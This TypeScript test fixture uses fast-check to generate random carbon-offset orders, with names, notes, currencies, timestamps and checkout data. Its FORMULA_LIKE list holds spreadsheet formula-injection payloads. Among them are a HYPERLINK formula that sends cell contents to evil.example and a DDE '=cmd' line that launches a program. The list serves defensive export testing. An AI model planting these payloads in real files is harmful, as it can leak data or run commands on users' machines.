import fc from 'fast-check'
import type { FuelData } from '../../src/calculator/calculator-data.js'
import { recordCalculation } from '../../src/calculator/recorded-calculation.js'
import { FORMATS } from '../../src/core/validation/formats.js'
import { isTextLine } from '../../src/core/validation/text-rules.js'
import { applyChanges, cancelOrder, createFirstVersion } from '../../src/orders/change-order.js'
import { PAYMENT_METHODS, type Checkout } from '../../src/orders/order-checkout.js'
import { getTransitions, hasBeenPaid, ORDER_STATUSES } from '../../src/orders/order-status.js'
import { ORDER_ORIGINS, type Order } from '../../src/orders/order.js'
import { calculation, imoNumber, textLine } from './calculations.js'

/** Texts that spreadsheets run or change. */
const FORMULA_LIKE = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "'=1+1",
  "''=1+1",
  "'plain",
  "'",
  '+31 20 555 0100',
  '-1',
  '-',
  '@SUM(A1:A9)',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  ' =1+1',
  '\u00a0=1+1',
  "' =1+1",
  '{"formula":"1+1"}',
  '[object Object]',
  '#REF!',
  '_x0041_',
  '_x000D_',
  '1e5',
  '00123',
  '12345678901234567890',
  '2026-11-20',
  'TRUE',
  'null',
  'a,b;c\td',
  'say "ahoy", he said',
  '""',
  '|pipe|',
  'שלום =1',
  'مرحبا =1',
  '⛵🏴‍☠️👩‍✈️',
] as const

/** A valid line of text, with or without special characters. */
export const orderText = (maxLength: number): fc.Arbitrary<string> =>
  fc
    .oneof(textLine(maxLength), fc.constantFrom(...FORMULA_LIKE))
    .filter((text) => text.length <= maxLength && isTextLine(text))

const BREAKS = ['\n', '\r\n', '\r', '\n\n', '\t', ' '] as const

/** Notes: empty, one line, or several with any type of line break. */
export const notes: fc.Arbitrary<string> = fc
  .oneof(
    fc.constant(''),
    orderText(200),
    fc
      .array(fc.oneof(orderText(60), fc.constantFrom(...BREAKS)), { minLength: 1, maxLength: 12 })
      .map((parts) => parts.join('')),
    orderText(40).map((text) => text.repeat(200).slice(0, 9_000)),
  )
  .filter((text) => text.length <= 10_000 && FORMATS.text?.(text) === true)

/** Currencies with zero, two, three and four decimals (ISO 4217); CLDR has none for IQD and HUF. */
export const currency = fc.constantFrom(
  'EUR',
  'USD',
  'JPY',
  'KRW',
  'BHD',
  'IQD',
  'HUF',
  'CLF',
  'NOK',
)

const amountMinor = fc.oneof(
  fc.constantFrom(0, 1, 99, 100, 4009, 1_000_000_000_000),
  fc.integer({ min: 0, max: 10_000_000 }),
)

const co2eKg = fc.oneof(
  fc.constantFrom(0, 1e-7, 0.1, 1603.6, 999_999_999.999, 1_000_000_000),
  fc.double({ min: 0, max: 1_000_000, noNaN: true }).map((mass) => mass + 0), // never -0
)

/** A time in recent decades or close to a clock change. */
export const timestamp: fc.Arbitrary<string> = fc
  .oneof(
    fc.date({
      min: new Date('1990-01-01T00:00:00Z'),
      max: new Date('2026-11-20T12:00:00Z'),
      noInvalidDate: true,
    }),
    fc.constantFrom(
      ...[
        '1970-01-01T00:00:00.000Z',
        '2024-02-29T12:00:00.000Z',
        '2026-03-29T00:59:59.999Z',
        '2026-03-29T01:00:00.000Z',
        '2026-10-25T00:30:00.000Z',
        '2026-10-25T01:30:00.000Z',
        '2025-12-31T23:59:59.999Z',
      ].map((text) => new Date(text)),
    ),
  )
  .map((date) => date.toISOString())

const customerEmail = fc.constantFrom(
  'ann@example.com',
  '=cmd@example.com',
  '+tag@example.com',
  '-dash@example.org',
  'первый@пример.рф',
  "o'hara+sea@example.co.uk",
)

/** The first version of an order and its status changes. */
const history = fc.record({
  first: fc.record({
    status: fc.constantFrom(...ORDER_STATUSES.filter((status) => status !== 'cancelled')),
    at: timestamp,
    version: fc.integer({ min: 1, max: 1_000 }),
  }),
  changes: fc.array(fc.record({ choice: fc.nat(), at: timestamp }), { maxLength: 5 }),
})

/** Applies a valid status transition or a cancellation. */
function applyTransition(order: Order, { choice, at }: { choice: number; at: string }): Order {
  const transitions = getTransitions(order)
  const status = transitions[choice % (transitions.length + 1)]
  const result = status === undefined ? cancelOrder(order, at) : applyChanges(order, { status }, at)
  return result.order
}

const checkout: fc.Arbitrary<Checkout> = fc.record(
  {
    beneficiary: orderText(120),
    isPublic: fc.boolean(),
    company: fc.option(orderText(120)),
    vatId: fc.option(orderText(40)),
    portfolioId: fc.option(fc.nat()),
    portfolioName: fc.option(orderText(120)),
    sharePercent: fc.integer({ min: 1, max: 200 }),
    forGuests: fc.constant(null),
    pricePerTonneMinor: fc.nat(),
    paidPerTonneMinor: fc.nat(),
    offsetMinor: fc.nat(),
    serviceFeeMinor: fc.nat(),
    amountMinor: fc.nat(),
    currency: fc.constantFrom('EUR', 'JPY'),
    co2eKg: fc.nat(),
    paymentMethod: fc.constantFrom(...PAYMENT_METHODS),
  },
  { noNullPrototype: true },
)

/** An arbitrary valid order with an ID. */
export const order = (id: number): fc.Arbitrary<Order> =>
  fc
    .record({
      history,
      customerName: orderText(120),
      customerEmail,
      vesselName: fc.option(orderText(80)),
      imoNumber: fc.option(imoNumber),
      calculation: fc.option(calculation),
      co2eKg,
      amountMinor,
      currency,
      orderSourceId: fc.option(orderText(120)),
      notes,
      placedAt: timestamp,
      origin: fc.option(fc.constantFrom(...ORDER_ORIGINS)),
      checkout: fc.option(checkout),
    })
    .map(({ history: { first, changes }, calculation, ...fields }) => {
      const given = {
        ...fields,
        status: first.status,
        calculatorType: calculation?.calculatorType ?? null,
        calculatorData: calculation === null ? null : { ...calculation.calculatorData },
      }
      const order: Order = {
        id: String(id),
        orderNumber: `CW-${String(id).padStart(6, '0')}`,
        ...createFirstVersion(given, first.at),
        version: first.version,
      }
      return changes.reduce(applyTransition, order)
    })

/** Random orders with IDs from 1, determined by the seed. */
export const randomOrders = (count: number, seed = 1): Order[] =>
  Array.from({ length: count }, (_, index) =>
    fc.sample(order(index + 1), { numRuns: 1, seed: seed + index }),
  ).flat()

/** Typical orders, generated quickly, for large databases. */
export function* typicalOrders(count: number): Generator<Order> {
  const first = Date.UTC(2025, 0, 1)
  for (let id = 1; id <= count; id++) {
    const placedAt = new Date(first + ((id * 7_919) % 1_000_000) * 60_000).toISOString()
    const status = ORDER_STATUSES[id % ORDER_STATUSES.length] ?? 'pending'
    const calculatorData: FuelData = { fuelType: 'mgo', quantity: 100 + (id % 900), unit: 'l' }
    yield {
      id: String(id),
      orderNumber: `CW-${String(id).padStart(6, '0')}`,
      status,
      customerName: `Customer ${(id * 31) % 9_973} of Harbour ${id % 97}`,
      customerEmail: `customer${id % 9_973}@example.com`,
      vesselName: id % 3 === 0 ? null : `Vessel ${id % 4_001}`,
      imoNumber: id % 2 === 0 ? '9811000' : null,
      calculatorType: 'fuel',
      calculatorData,
      co2eKg: Math.round((320.72 + id * 3.2072) * 100) / 100,
      amountMinor: 1_000 + (id % 100_000),
      currency: ['EUR', 'USD', 'JPY'][id % 3] ?? 'EUR',
      orderSourceId: id % 5 === 0 ? `off_${id.toString(36)}` : null,
      notes: id % 10 === 0 ? 'Paid by bank transfer\nsee email' : '',
      placedAt,
      createdAt: placedAt,
      updatedAt: placedAt,
      fulfilledAt: status === 'fulfilled' ? placedAt : null,
      cancelledAt: status === 'cancelled' ? placedAt : null,
      version: 1 + (id % 4),
      calculation: recordCalculation({ calculatorType: 'fuel', calculatorData }),
      origin: null,
      checkout: null,
      cancelledFrom: null,
      paidAt: hasBeenPaid(status) ? placedAt : null,
      retirement: null,
    }
  }
}
